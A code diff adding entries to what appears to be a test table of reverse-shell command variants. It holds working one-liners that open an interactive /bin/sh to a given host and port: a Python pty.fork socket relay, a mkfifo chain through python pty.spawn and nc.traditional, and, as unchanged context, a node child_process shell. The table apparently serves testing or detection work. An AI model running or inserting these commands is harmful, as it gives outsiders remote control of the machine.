@@ -160,6 +160,32 @@ c.wait()'`,
       relay: ["python3"],
     },
     {
+      name: "python pty.fork: the parent relays between the socket and the pty master, the child execs /bin/sh -i on the slave",
+      cmd: (h, p) => `${PYTHON} -c '
+import socket,pty,os,select
+s=socket.create_connection(("${h}",${p}))
+pid,fd=pty.fork()
+if pid==0:
+    os.execv("/bin/sh",["/bin/sh","-i"])
+while True:
+    r,_,_=select.select([s,fd],[],[])
+    if s in r:
+        d=s.recv(4096)
+        if not d: break
+        os.write(fd,d)
+    if fd in r:
+        try: d=os.read(fd,4096)
+        except OSError: break
+        if not d: break
+        s.sendall(d)'`,
+      relay: ["python3"],
+    },
+    {
+      name: "python pty.spawn in a mkfifo chain: cat F | python3 -c 'pty.spawn(\"/bin/sh\")' | nc H P > F",
+      cmd: (h, p) => `F=${join(dir, "p")}-${p}; rm -f $F; mkfifo $F; cat $F | ${PYTHON} -c 'import pty; pty.spawn("/bin/sh")' | nc.traditional ${h} ${p} > $F`,
+      relay: ["nc.traditional"],
+    },
+    {
       name: "node child_process.spawn('/bin/sh', ['-i']) piped to a net socket (socketpairs)",
       cmd: (h, p) => `${process.execPath} -e 'const s=require("net").connect(${p},"${h}",()=>{const c=require("child_process").spawn("/bin/sh",["-i"]);s.pipe(c.stdin);c.stdout.pipe(s);c.stderr.pipe(s);c.on("exit",()=>process.exit(0))})'`,
       relay: ["node"],
